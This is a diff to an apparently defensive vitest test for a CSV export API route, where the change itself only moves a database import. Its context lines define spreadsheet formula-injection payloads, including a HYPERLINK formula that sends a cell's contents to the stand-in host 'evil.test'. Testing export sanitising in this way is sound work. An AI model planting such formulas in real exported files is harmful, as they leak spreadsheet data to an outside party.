@@ -7,8 +7,8 @@ import { stringify } from "csv-stringify/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { GET } from "@/app/api/exports/[kind]/route";
 import { runAsUser } from "../context";
-import { db, disconnectDb } from "../db";
-import { createTestPractice, importVisitsCsv, type TestPractice } from "../testing";
+import { disconnectDb } from "../db";
+import { createTestPractice, importVisitsCsv, type TestPractice, db } from "../testing";
 
 const NAME = '=HYPERLINK("http://evil.test/?q="&A1,"Open")';
 const MEMBER = "@SUM(1+1)";
